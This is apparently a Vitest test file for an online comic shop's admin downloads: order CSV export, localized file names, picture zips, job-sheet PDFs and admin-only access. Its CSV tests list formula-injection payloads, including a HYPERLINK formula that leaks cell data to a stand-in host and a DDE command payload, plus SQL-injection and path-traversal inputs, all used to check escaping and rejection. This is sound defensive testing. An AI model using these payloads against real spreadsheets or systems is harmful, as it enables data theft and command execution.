import { randomUUID } from 'node:crypto';
import { setTimeout } from 'node:timers/promises';
import { sql } from 'kysely';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { listPictureUrls } from '#shared/draft/comic-pictures.ts';
import { IMAGE_URL_PREFIX } from '#shared/draft/schema.ts';
import type { OrderedComic } from '#shared/order/order.ts';
import { DELETED_CUSTOMER } from '#shared/order/stored-names.ts';
import { elenisComic, putInCart, tomsComic, withImage } from '#testing/comics.ts';
import { countStatements } from '#testing/database.ts';
import { emptyTables } from '#testing/empty-tables.ts';
import { readPdf } from '#testing/read-pdf.ts';
import { recordWarnings } from '#testing/record-warnings.ts';
import { shopFixture } from '#testing/shop.ts';
import { namePictures } from './orders/order-photos.ts';
import { writeOrder } from './orders/testing.ts';

const shop = shopFixture();
let admin: string;
beforeAll(async () => {
  admin = await shop.signIn('maria@example.com', 'admin');
});
beforeEach(async () => {
  await emptyTables(shop.db, 'orders', 'checkouts');
});

const HEADINGS =
  'Order ID,Date,Customer Email,Customer Name,Comic Type,Tier,Pages,Add-ons,Rush,Delivery,Total,Currency,Status,Language of the Comic,Net,VAT,VAT Rate,VAT From,Refunded,Refunded Net,Refunded VAT,VAT ID,Invoice';

function download(path: string, cookie: string | undefined = admin) {
  return fetch(`${shop.url}/api/admin/${path}`, { headers: cookie ? { cookie } : {} });
}

async function exportCsv(search = ''): Promise<string[][]> {
  return parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await exportBytes(search)).slice(1));
}

async function exportBytes(search = ''): Promise<ArrayBuffer> {
  const response = await download(`orders.csv${search}`);
  expect(response.status).toBe(200);
  return response.arrayBuffer();
}

/** Parses CSV as in RFC 4180: quoted and unquoted cells, doubled quotes, lines that end with CR LF. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const [, quoted, plain, end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`This is no CSV: ${text.slice(0, 200)}`);
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

const columnOf = (lines: string[][], heading: string) =>
  lines.slice(1).map((line) => line[lines[0]?.indexOf(heading) ?? -1]);

describe('a CSV of orders', () => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.test?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ];

  /** Text that csv.ts must escape, at the start of a cell and after a tab or line break. */
  const inert = (text: string) => `'${text.replace(/^([\t\r])(?=[=@])/, "$1'")}`;

  test.each(FORMULAS)('does not let %j calculate', async (name) => {
    await writeOrder(shop.db, { name, email: `${name[0]}@example.com`, addOns: [name, 'Gift wrapping'] });
    const lines = await exportCsv();
    expect(columnOf(lines, 'Customer Name')).toEqual([inert(name)]);
    expect(columnOf(lines, 'Customer Email')).toEqual([inert(`${name[0]}@example.com`)]);
    expect(columnOf(lines, 'Add-ons')).toEqual([inert(`${name}; Gift wrapping`)]);
  });

  test.each([
    'O’Neill, Tom',
    'Tom "Biscuit" O’Neill',
    '"',
    '""',
    ',',
    'two\nlines',
    'two\r\nlines',
    'a=b+c-d@e',
    ' =1',
    'Ελένη 💛',
    "'quoted'",
    '',
    ' ',
  ])('brings %j through a round trip', async (name) => {
    await writeOrder(shop.db, { name, addOns: [name] });
    const lines = await exportCsv();
    expect(columnOf(lines, 'Customer Name')).toEqual([name]);
    expect(columnOf(lines, 'Add-ons')).toEqual([name]);
  });
});

describe('the CSV', () => {
  test('begins with a byte order mark and the columns, and ends every line with CR LF', async () => {
    const bytes = new Uint8Array(await exportBytes());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toBe(`"${HEADINGS.replaceAll(',', '","')}"\r\n`);
  });

  test('has heads and statuses in the language that its admin has chosen', async () => {
    await writeOrder(shop.db, { name: DELETED_CUSTOMER });
    await shop.db.updateTable('users').set({ language: 'el' }).execute();
    try {
      const [heads, line] = await exportCsv();
      expect(line?.[heads?.indexOf('Όνομα πελάτη') ?? -1]).toBe('Διαγραμμένος πελάτης');
      expect(heads?.slice(0, 3)).toEqual(['Αρ. παραγγελίας', 'Ημερομηνία', 'Email πελάτη']);
      expect(line?.[heads?.indexOf('Κατάσταση') ?? -1]).toBe('Πληρωμένη');
      expect(line?.[heads?.indexOf('Προέλευση ΦΠΑ') ?? -1]).toBe('Άγνωστος');
      expect((await (await download('subscribers.csv')).text()).slice(1)).toContain('"Επώνυμο"');
    } finally {
      await shop.db.updateTable('users').set({ language: 'en' }).execute();
    }
  });

  test('is a download named after the studio’s day, and kept by nobody on the way', async () => {
    const { headers } = await download('orders.csv');
    const today = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Athens' }).format(new Date());
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(
      `attachment; filename="orders-${today}.csv"; filename*=UTF-8''orders-${today}.csv`,
    );
    expect(headers.get('cache-control')).toBe('private, no-store');
  });

  test('is named in the language of whoever downloads it, as sheets and folders are, and in English for old browsers', async () => {
    const id = await writeOrder(shop.db, { number: '4827-1935' });
    const dispositionOf = async (path: string) =>
      decodeURIComponent((await download(path)).headers.get('content-disposition') ?? '');
    await shop.db.updateTable('users').set({ language: 'el' }).execute();
    try {
      expect(await dispositionOf('orders.csv')).toMatch(
        /^attachment; filename="orders-[\d-]+\.csv"; filename\*=UTF-8''παραγγελίες-[\d-]+\.csv$/,
      );
      expect(await dispositionOf(`orders/${id}/job-sheet.pdf`)).toBe(
        `inline; filename="job-sheet-4827-1935.pdf"; filename*=UTF-8''φύλλο-εργασίας-4827-1935.pdf`,
      );
      const folder = await download(`orders/${id}/photos.zip`);
      expect(Object.keys(unzip(Buffer.from(await folder.arrayBuffer())))).toEqual([
        'χωρίς-εικόνες.txt',
        'φύλλο-εργασίας-4827-1935.pdf',
      ]);
    } finally {
      await shop.db.updateTable('users').set({ language: 'en' }).execute();
    }
  });

  test('has a line for each order, its moment by the studio’s clock', async () => {
    await writeOrder(shop.db, {
      number: '4827-1935',
      createdAt: '2026-10-24T21:05:00Z',
      addOns: ['Gift wrapping', 'Poster'],
      total: 1279_50,
      status: 'Waiting on Client',
    });
    await writeOrder(shop.db, {
      number: '4827-1936',
      createdAt: '2026-01-01T21:59:59Z',
      total: 30000,
      currency: 'JPY',
    });
    const styling = JSON.stringify({ comicLanguage: 'el' });
    await sql`
      update orders set raw_order_json = raw_order_json || jsonb_build_object('styling', ${styling}::jsonb)
      where number = '4827-1936'`.execute(shop.db);
    expect((await exportCsv()).slice(1)).toEqual([
      [
        '4827-1935',
        '2026-10-25 00:05',
        'eleni@example.com',
        'Eleni Papadopoulou',
        'Love Story',
        'Short Story',
        '10',
        'Gift wrapping; Poster',
        'No',
        'Print + Digital',
        '1279.50',
        'EUR',
        'Waiting on Client',
        '',
        ...['', '', '', 'Unknown', '0.00', '', '', '', ''],
      ],
      expect.arrayContaining(['4827-1936', '2026-01-01 23:59', '30000', 'JPY', 'Ελληνικά']),
    ]);
  });

  test('has the orders that the list shows, in its sequence', async () => {
    await writeOrder(shop.db, { email: 'a@x.gr', total: 100 });
    await writeOrder(shop.db, { email: 'b@x.gr', total: 300 });
    await writeOrder(shop.db, { email: 'c@y.gr', total: 200, status: 'Canceled' });
    const emails = async (search: string) => columnOf(await exportCsv(search), 'Customer Email');
    expect(await emails('?sort=total&direction=desc')).toEqual(['b@x.gr', 'c@y.gr', 'a@x.gr']);
    expect(await emails('?sort=total&direction=asc&search=%40X&status=')).toEqual(['a@x.gr', 'b@x.gr']);
    expect(await emails('?status=Canceled&search=')).toEqual(['c@y.gr']);
    expect(await emails('?status=In%20Progress')).toEqual([]);
  });

  test.each([
    ['?status=Lost', 'This status does not exist'],
    ['?sort=name', 'Orders can’t be sorted by this'],
    ['?direction=up', 'Orders can’t be sorted this way'],
    [`?search=${'a'.repeat(256)}`, 'Search for less than 255 characters'],
  ])('for %s there is a sentence instead', async (search, message) => {
    const response = await download(`orders.csv${search}`);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ message });
  });

  test('has each of many orders once, batch after batch', async () => {
    await writeBatches(1250);
    const ids = columnOf(await exportCsv('?sort=total'), 'Order ID');
    expect(new Set(ids).size).toBe(1250);
    const asked = await exportCsv('?search=eleni');
    expect(asked).toHaveLength(1251);
  });

  test('is read from the database no further once the client has gone', async () => {
    // More than the buffers in between can hold: ten batches of two megabytes.
    await writeBatches(5000, 'x'.repeat(4000));
    const statements = await countStatements(shop.db, async () => {
      const leaving = new AbortController();
      const { signal } = leaving;
      const response = await fetch(`${shop.url}/api/admin/orders.csv`, {
        headers: { cookie: admin },
        signal,
      });
      await response.body?.getReader().read();
      leaving.abort();
      await setTimeout(500);
    });
    const batches = statements.filter((statement) => statement.includes('from orders')).length;
    expect([batches > 0, batches < 8]).toEqual([true, true]);
  });
});

/** Inserts this many orders with the same time and total. */
async function writeBatches(count: number, name = 'Eleni') {
  const id = await writeOrder(shop.db, { name });
  await sql`drop index orders_search, orders_search_person, orders_search_text`.execute(shop.db);
  await sql`
    insert into orders (checkout_id, checkout_session_id, line_number, draft_id, source, customer_name,
      customer_email, comic_type, tier_id, tier_name, page_count, add_ons, delivery_option, rush,
      characters_count, scenes_count, price_total, currency, status, raw_order_json, created_at, search_text)
    select checkout_id, checkout_session_id, n, draft_id, source, customer_name, customer_email, comic_type, tier_id,
      tier_name, page_count, add_ons, delivery_option, rush, characters_count, scenes_count, price_total, currency,
      status, raw_order_json, created_at, search_text
    from orders, generate_series(2, ${count}::integer) as n where orders.id = ${id}`.execute(shop.db);
  await sql`
    create index orders_search on orders
      using gin (customer_email gin_trgm_ops, (id::text) gin_trgm_ops)`.execute(shop.db);
  await sql`
    create index orders_search_person on orders using gin (customer_name gin_trgm_ops)`.execute(shop.db);
  await sql`
    create index orders_search_text on orders using gin (search_text gin_trgm_ops)`.execute(shop.db);
}

describe('the pictures of an order', () => {
  const url = (draftId: string, kind: string, letter: string) =>
    `${IMAGE_URL_PREFIX}${draftId}/${kind}/${letter.repeat(24)}.jpg`;

  /** Tom's comic with a picture of each kind, as it was ordered. */
  async function illustratedComic(): Promise<OrderedComic> {
    const { tier, ...item } = await putInCart(shop.db, tomsComic);
    const image = (letter: string) => ({ url: url(item.draftId, 'characters', letter), title: '' });
    const [biscuit] = item.characters;
    if (!biscuit) throw new Error('Tom’s comic has no character.');
    return {
      ...item,
      tier,
      characters: [
        { ...biscuit, images: [{ ...image('a'), title: 'On the sofa, asleep' }, image('b')] },
        { ...biscuit, name: '../Ελένη & Zoë/..', images: [image('c')] },
        { ...biscuit, name: '?', images: [image('d')] },
      ],
      pages: withImage(item.pages, 'The sofa, later', url(item.draftId, 'scenes', 'e')),
      referenceImages: [{ url: url(item.draftId, 'references', 'f'), title: 'Our sofa' }],
    } as OrderedComic;
  }

  async function orderOf(comic: object) {
    const id = await writeOrder(shop.db);
    await shop.db
      .updateTable('orders')
      .set({ rawOrderJson: JSON.stringify(comic) })
      .where('id', '=', id)
      .execute();
    return id;
  }

  const put = (address: string, text: string) =>
    shop.services.images.put(address.slice(IMAGE_URL_PREFIX.length), Buffer.from(text));

  test('are named by what they show, and none is left out', async () => {
    const comic = await illustratedComic();
    const pictures = await namePictures(shop.db, comic);
    expect(pictures.map(({ name }) => name)).toEqual([
      '01-biscuit-1-on-the-sofa-asleep.jpg',
      '01-biscuit-2.jpg',
      '02-ελένη-zoë-1.jpg',
      '03-1.jpg',
      'page-02-scene-2-the-sofa-later.jpg',
      'reference-01-our-sofa.jpg',
    ]);
    expect(pictures.map((picture) => picture.url)).toEqual(listPictureUrls(comic));
  });

  test('come together as a zip, each as it was uploaded', async () => {
    const comic = await illustratedComic();
    for (const { name, url } of await namePictures(shop.db, comic)) await put(url, `picture ${name}`);
    const id = await orderOf(comic);
    const { number } = await shop.db
      .selectFrom('orders')
      .where('id', '=', id)
      .select('number')
      .executeTakeFirstOrThrow();
    const response = await download(`orders/${id}/photos.zip`);
    expect(response.headers.get('content-type')).toBe('application/zip');
    expect(response.headers.get('content-disposition')).toContain(
      `attachment; filename="order-${number}.zip";`,
    );
    const { [`job-sheet-${number}.pdf`]: sheet, ...pictures } = unzip(
      Buffer.from(await response.arrayBuffer()),
    );
    expect(pictures).toEqual(
      Object.fromEntries((await namePictures(shop.db, comic)).map(({ name }) => [name, `picture ${name}`])),
    );
    expect(sheet).toContain('%PDF-');
  });

  test('have the names of the photos as they were sent, on the job sheet as in the zip', async () => {
    const comic = await illustratedComic();
    const [, second] = await namePictures(shop.db, comic);
    const imagePath = second?.url.slice(IMAGE_URL_PREFIX.length) ?? '';
    const path = `originals/${comic.draftId}/biscuit.png`;
    await shop.db
      .insertInto('draftImages')
      .values({ path: imagePath, draftId: comic.draftId, bytes: 1, width: 1, height: 1 })
      .execute();
    await shop.db
      .insertInto('draftOriginals')
      .values({
        ...{ imagePath, draftId: comic.draftId, state: 'done', path, type: 'image/png' },
        ...{ bytes: 8, width: 1, height: 1, begunAt: new Date() },
      })
      .execute();
    await shop.services.images.put(path, Buffer.from('original'));
    const id = await orderOf(comic);
    const zip = await download(`orders/${id}/photos.zip`);
    expect(unzip(Buffer.from(await zip.arrayBuffer()))['01-biscuit-2.png']).toBe('original');
    recordWarnings();
    const sheet = await download(`orders/${id}/job-sheet.pdf`);
    const text = (await readPdf(await sheet.arrayBuffer(), 'names')).join('').replace(/-?\n/g, '');
    expect(text).toMatch(/biscuit\W*2\.png/);
  });

  test('are on their way before the last one is read, and so may be more than one answer takes', async () => {
    const comic = await illustratedComic();
    const pictures = await namePictures(shop.db, comic);
    for (const { url } of pictures) await put(url, 'x'.repeat(1_000_000));
    const last = pictures.at(-1)?.url.slice(IMAGE_URL_PREFIX.length);
    const { images } = shop.services;
    let begin = () => {};
    const begun = new Promise<void>((resolve) => {
      begin = resolve;
    });
    shop.services.images = {
      ...images,
      async get(path) {
        if (path === last) await begun;
        return images.get(path);
      },
    };
    try {
      const response = await download(`orders/${await orderOf(comic)}/photos.zip`);
      expect(response.headers.get('content-length')).toBeNull();
      const chunks: Uint8Array[] = [];
      for await (const chunk of response.body ?? []) {
        chunks.push(chunk);
        begin();
      }
      const files = unzip(Buffer.concat(chunks));
      expect(pictures.map(({ name }) => files[name]?.length)).toEqual(pictures.map(() => 1_000_000));
    } finally {
      shop.services.images = images;
    }
  });

  test('that are missing are named in a text beside the others', async () => {
    const comic = await illustratedComic();
    const [first, , third] = await namePictures(shop.db, comic);
    await put(first?.url ?? '', 'first');
    await put(third?.url ?? '', 'third');
    const response = await download(`orders/${await orderOf(comic)}/photos.zip`);
    const files = unzip(Buffer.from(await response.arrayBuffer()));
    expect(Object.keys(files)).toEqual([
      ...[first?.name, third?.name, 'missing-pictures.txt'],
      expect.stringMatching(/^job-sheet-.*\.pdf$/),
    ]);
    expect(files['missing-pictures.txt']).toContain(`01-biscuit-2.jpg (${comic.draftId}/characters/bbbb`);
  });

  test('an order without any says so in its zip', async () => {
    const response = await download(
      `orders/${await orderOf(await putInCart(shop.db, elenisComic))}/photos.zip`,
    );
    const files = unzip(Buffer.from(await response.arrayBuffer()));
    expect(files['no-pictures.txt']).toBe('This order came without pictures.\n');
  });

  test.each([randomUUID(), 'nonsense', "' or 1=1"])(
    'of an order that nobody made, %s, are not there',
    async (id) => {
      const response = await download(`orders/${encodeURIComponent(id)}/photos.zip`);
      expect([response.status, await response.json()]).toEqual([
        404,
        { message: 'This order does not exist.' },
      ]);
    },
  );
});

describe('to whoever is no admin', () => {
  test.each(['orders.csv', 'orders.csv?status=Lost', `orders/${randomUUID()}/photos.zip`])(
    '%s does not exist, as nothing else does',
    async (path) => {
      await writeOrder(shop.db);
      const nothing = await download('no-such-thing', admin);
      const expected = [nothing.status, await nothing.text()];
      const customer = await shop.signIn(`${randomUUID()}@example.com`);
      for (const cookie of ['', 'session=nonsense', customer]) {
        const response = await download(path, cookie);
        expect([response.status, await response.text()]).toEqual(expected);
      }
    },
  );

  test('not even the pictures of a real order do', async () => {
    const id = await writeOrder(shop.db);
    expect((await download(`orders/${id}/photos.zip`, '')).status).toBe(404);
    expect((await download(`orders/${id}/photos.zip`)).status).toBe(200);
  });

  test('an admin without the second factor that is asked for gets a sentence', async () => {
    const { env } = shop.services;
    const level = env.adminAssuranceLevel;
    env.adminAssuranceLevel = 'aal2';
    try {
      const response = await download('orders.csv');
      expect(response.status).toBe(403);
      expect((await response.json()).message).toMatch(/second factor/);
    } finally {
      env.adminAssuranceLevel = level;
    }
  });
});

/** The files of a zip without compression, by its central directory. */
function unzip(zip: Buffer): Record<string, string> {
  const files: Record<string, string> = {};
  const end = zip.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  let entry = zip.readUInt32LE(end + 16);
  while (zip.toString('latin1', entry, entry + 4) === 'PK\x01\x02') {
    const size = zip.readUInt32LE(entry + 24);
    const [nameLength, extraLength, commentLength] = [28, 30, 32].map((at) =>
      zip.readUInt16LE(entry + at),
    ) as [number, number, number];
    const local = zip.readUInt32LE(entry + 42);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    files[zip.toString('utf8', entry + 46, entry + 46 + nameLength)] = zip.toString(
      'utf8',
      start,
      start + size,
    );
    entry += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}
